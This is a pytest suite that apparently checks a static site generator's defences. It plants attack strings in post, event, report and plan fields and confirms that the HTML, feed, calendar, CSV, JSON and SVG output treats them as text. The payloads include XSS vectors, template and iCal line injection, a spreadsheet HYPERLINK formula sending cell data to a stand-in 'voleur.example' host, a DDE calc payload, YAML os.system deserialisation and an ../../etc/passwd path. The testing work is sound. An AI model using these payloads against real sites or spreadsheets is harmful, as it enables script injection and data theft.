"""Whatever stands in a field that an author fills is words to whoever reads the published files, never a command.

One small site with an attack in every field, then each published file read as its readers' programs read it.
"""

import csv
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from icalendar import Calendar

from plugins.authoring.problems import ProblemsFound
from plugins.front_matter.writing_anew import written_anew
from tests.conftest import ROOT, Site, build_on, copy_of_the_site
from tests.test_text_rules import told

# The name of a field goes before, to see that it was published.
HTML = """ "'><script>danger()</script><img src=x onerror=danger()><a href=javascript:danger()>x</a>]]>{{ 7*7 }}{% raw %}"""
FORMULA = '=HYPERLINK("https://voleur.example/?"&A1)'
LINES = "un lieu\\r\\nEND:VEVENT\\r\\nBEGIN:VEVENT\\r\\nSUMMARY:danger\\r\\nATTACH:https://voleur.example/"


def field(name: str) -> str:
    """A YAML text in single quotes."""
    return "'" + (f"zz{name}" + HTML).replace("'", "''") + "'"


POST = f"""---
title: {field("titre")}
summary: {field("resume")}
date: 2030-01-01
tags: [{field("etiquette")}]
image: images/point.png
alt: {field("alt")}
legende: {field("legende")}
credit: {field("credit")}
sources:
  - titre: {field("source")}
    url: https://x.example/'onmouseover='danger()
    archive: https://x.example/{{{{7*7}}}}
actions: [2031/attaque]
---

Un lien vers [le contact](/contact/ 'zzinfobulle" onmouseover="danger()') et du code : `zzcode<script>danger()</script>`.

![zzimage" onerror="danger()](/images/point.png 'zzmot" onload="danger()')

    zzbloc<script>danger()</script>

Le HTML, un tableau et une note[^1].

*[HTML]: zzabbr" onclick="danger()

## zzpartie" onclick="danger() &lt;script>danger()&lt;/script>

| zzcolonne" onclick="danger() | &lt;script>danger()&lt;/script> |
|---|--:|
| zzcellule" onclick="danger() | 1 |

<details title="zztitle&quot; ontoggle=danger()"><summary>&lt;img src=x onerror=danger()></summary>

Un texte &#60;script&#62;danger()&#60;/script&#62;.

</details>

[^1]: zznote" onclick="danger()
"""

EVENT = f"""---
title: {field("rencontre")}
summary: {field("programme")}
debut: 2031-03-05 09:30
lieu: "zzlieu{LINES}"
organisateurs: [{field("organisateur")}]
inscription: https://x.example/'onmouseover='danger()
---

Un texte.
"""

REPORT = f"""---
title: {field("rapport")}
summary: {field("etude")}
date: 2030-07-01
annee: 2029
auteurs: [{field("auteur")}]
document: documents/etude.txt
---

Un texte.
"""

PLAN = f"""annee: 2031
titre: {field("plan")}
note: {field("noteduplan")}
echeance: 2031-12-31
responsables:
  personne-z: {field("personne")}
sources:
  - titre: {field("sourceduplan")}
    url: https://x.example/'onmouseover='danger()
axes:
  - id: premier-axe
    titre: {field("axe")}
    description: {field("descriptiondelaxe")}
    responsables: [personne-z]
    actions:
      - id: reprise
        titre: '{FORMULA}'
        description: '@SUM(1+1)*cmd|'' /C calc''!A0'
        lieu: "zzville{LINES}"
      - id: attaque
        titre: {field("action")}
        description: {field("description")}
        cible: '40 {field("cible")[1:]}
        lieu: {field("endroit")}
        suivi:
          - date: 2031-02-01
            etat: en_cours
            fait: 3
            note: {field("note")}
            preuves:
              - titre: {field("preuve")}
                type: presse
                source: tiers
                url: https://x.example/'onmouseover='danger()
                archive: https://x.example/{{{{7*7}}}}
"""
FIELDS = {name for text in (POST, EVENT, REPORT, PLAN) for name in re.findall(r"zz[a-z]+", text)}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    root = copy_of_the_site(tmp_path_factory.mktemp("attacked"), ROOT / "tests/site/content")
    texts = {
        "actualites/attaque.md": POST,
        "evenements/attaque.md": EVENT,
        "rapports/attaque.md": REPORT,
        "plan/2031.yaml": PLAN,
    }
    for name, text in texts.items():
        (root / "content" / name).write_text(text, encoding="utf-8")
    return build_on("2031-03-01", root, root / "output")


class Seen(HTMLParser):
    """What a browser would do with a page.  programs: what runs or is loaded; words: what is read."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.within = ""
        self.programs: list[str] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.within = tag
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if (
                name.startswith("on")
                or name in {"style", "srcdoc"}
                or address.startswith(("javascript:", "data:text"))
            ) or (
                name in {"src", "data"} and not address.startswith(("/", "data:image/", "https://isoc.ml/"))
            ):
                self.programs.append(f"{name}={value}")
            self.words += f" {value}"

    def handle_endtag(self, tag: str) -> None:
        self.within = ""

    def handle_data(self, data: str) -> None:
        if self.within in {"script", "style"} and "danger" in data and not _is_data(data):
            self.programs.append(data)
        self.words += data


def _is_data(script: str) -> bool:
    """A <script> of data: it must be whole, and cannot end early."""
    return isinstance(json.loads(script), dict)


def files(site: Site, ending: str) -> Iterator[Path]:
    found = sorted(site.folder.rglob(f"*{ending}"))
    assert found, ending
    yield from found


def test_nothing_in_a_page_runs_or_loads_what_an_author_wrote(site: Site):
    seen = {file.relative_to(site.folder).as_posix(): Seen(file.read_text()) for file in files(site, ".html")}

    assert {name: one.programs for name, one in seen.items() if one.programs} == {}
    words = " ".join(one.words for one in seen.values())
    # Tags are for the search alone.
    assert {name for name in FIELDS if name not in words} == {"zzetiquette"}


def test_no_template_takes_what_an_author_wrote_for_a_command(site: Site):
    pages = "".join(file.read_text() for file in files(site, ".html"))

    assert "zztitre" in pages
    assert not re.search(r"zz\w+[^<]*\]\]&gt;49", pages)
    assert "{{ 7*7 }}{% raw %}" in pages.replace("\u202f", " ").replace("\u00a0", " ")


def test_a_feed_holds_words(site: Site):
    feeds = list(files(site, "atom.xml"))
    for file in feeds:
        feed = ElementTree.parse(file)
        for element in feed.iter():
            if element.get("type") == "html":
                assert Seen(element.text or "").programs == [], file
    assert "zznote" in "".join(file.read_text() for file in feeds)


def test_a_calendar_has_what_was_written_and_nothing_more(site: Site):
    for file in files(site, ".ics"):
        calendar = Calendar.from_ical(file.read_bytes())
        for event in calendar.walk("VEVENT"):
            assert event.get("ATTACH") is None, file
            assert event["SUMMARY"] != "danger", file
        assert len(re.findall("(?m)^BEGIN:VEVENT", file.read_text())) == len(calendar.walk("VEVENT")), file
    assert "zzaction" in (site.folder / "plan/2031/echeances.ics").read_text()


def test_no_cell_of_a_table_is_a_formula(site: Site):
    told_of = ""
    for file in files(site, ".csv"):
        for row in csv.reader(file.read_text(encoding="utf-8-sig").splitlines(keepends=True), delimiter=";"):
            assert [cell for cell in row if re.match(r"[=+@\t\r-]", cell)] == [], file
            told_of += " ".join(row)
    assert "'=HYPERLINK" in told_of
    assert "'@SUM" in told_of


def test_the_data_of_programs_are_whole(site: Site):
    data = [json.loads(file.read_text()) for file in files(site, ".json")]

    assert "zzaction" in json.dumps(data)


def test_a_badge_is_a_drawing_and_nothing_else(site: Site):
    for file in site.folder.rglob("etat.svg"):
        names = {element.tag.rpartition("}")[2] for element in ElementTree.parse(file).iter()}
        assert names <= {"svg", "title", "rect", "path", "g", "text"}, file


@pytest.mark.parametrize(
    "body",
    [
        # Addresses that are programs, however they are written.
        *["[x](javascript:danger())", "[x](JaVaScRiPt:danger())", "[x](&#106;avascript:danger())", "<javascript:danger()>"],
        *["[x](<java\tscript:danger()>)", "[x](data:text/html,<script>danger()</script>)", "[x](vbscript:danger())"],
        *['<a href=" &#1;javascript:danger()">x</a>', "<a href='java&#10;script:danger()'>x</a>", "[x]: javascript:danger()\n\n[x]"],
        "![Une image](javascript:danger())",
        # Elements and attributes that do something.
        *["<svg/onload=danger()>", "<img/src=/images/point.png/onerror=danger()>", "<p/onclick=danger()>x</p>", "<ScRiPt>danger()"],
        *["<details open ontoggle=danger()><summary>x</summary></details>", "<form action=//x.example><input name=q></form>"],
        *["<base href=//x.example/>", "<meta http-equiv=refresh content=0;//x.example/>", "<iframe srcdoc=x></iframe>", "<object data=x>"],
        *["<math><mtext></math>", "<style>p{}</style>", "<link rel=stylesheet href=//x.example/>", "<embed src=x>", "<video src=x></video>"],
        '<noscript><p title="</noscript><img src=x onerror=danger()>"></noscript>',
        '<p style="position:fixed">x</p>',
        '<template><script>danger()</script></template>',
        # Cut by what Markdown or a comment takes away.
        *["<scr<!-- -->ipt>danger()</script>", "<<script>danger()//<</script>", "<img src='x'\nonerror='danger()'>"],
    ],
)  # fmt: skip
def test_what_would_do_something_in_a_page_is_refused_in_a_text(body: str):
    assert told(body) != []


@pytest.mark.parametrize(
    ("typed", "published"),
    [
        # A whole remark to a browser, and to Python the beginning of one.
        ("<!--><script>danger()</script>-->", ""),
        ("a <!---><img src=x onerror=danger()>--> b", "a  b"),
        ("<p title=\"<script>danger()", "&lt;p title=\"&lt;script>danger()"),
        ("<![x](/contact/)", "&lt;![x](/contact/)"),
        ("<p>1 < 2 & 3</p>", "<p>1 &lt; 2 &amp; 3</p>"),
        ("&lt;script&#62; &eacute; &inconnue; &amp;", "&lt;script&#62; &eacute; &amp;inconnue; &amp;"),
        ("<br/><img alt='a \"b\" &lt;' src=/x><details open></details></br>", "<br><img alt=\"a &quot;b&quot; &lt;\" src=\"/x\"><details open></details>"),
        # A sign of the theme, by its number.
        ("<a title='&#xe0ff;'>&#xe0ff;</a>", "<a title=\"\ufffd\">&#xe0ff;</a>"),
        ("<a \"=x 'y' title=z>", '<a title="z">'),
    ],
)  # fmt: skip
def test_what_is_published_is_what_was_read_and_nothing_else(typed: str, published: str):
    assert written_anew(typed) == published
    assert written_anew(published) == published


HEADS = {
    "lien": "sources:\n  - titre: x\n    url: javascript:danger()",
    "donnees": "sources:\n  - titre: x\n    url: data:text/html,x",
    "guillemet": "sources:\n  - titre: x\n    url: https://x.example/\" onclick=danger()",
    "image": "image: ../../etc/passwd\nalt: x",
    "objet": "summary: !!python/object/apply:os.system [id]",
    "etiquette": "summary: !!binary aGVsbG8=",
    "ancre": "summary: &a x\ntags: [*a]",
    "fusion": "<<: {title: y}",
    "adresse": "slug: ../../index",
}  # fmt: skip


def test_what_would_do_something_in_a_head_is_refused_all_at_once(project: Path):
    for name, head in HEADS.items():
        text = f"---\ntitle: Un titre\ndate: 2030-01-01\n{head}\n---\n\nUn texte.\n"
        (project / f"content/actualites/{name}.md").write_text(text, encoding="utf-8")

    with pytest.raises(ProblemsFound) as found:
        build_on("2031-03-01", project, project / "output")

    assert {Path(one.path).stem for one in found.value.problems} == set(HEADS)
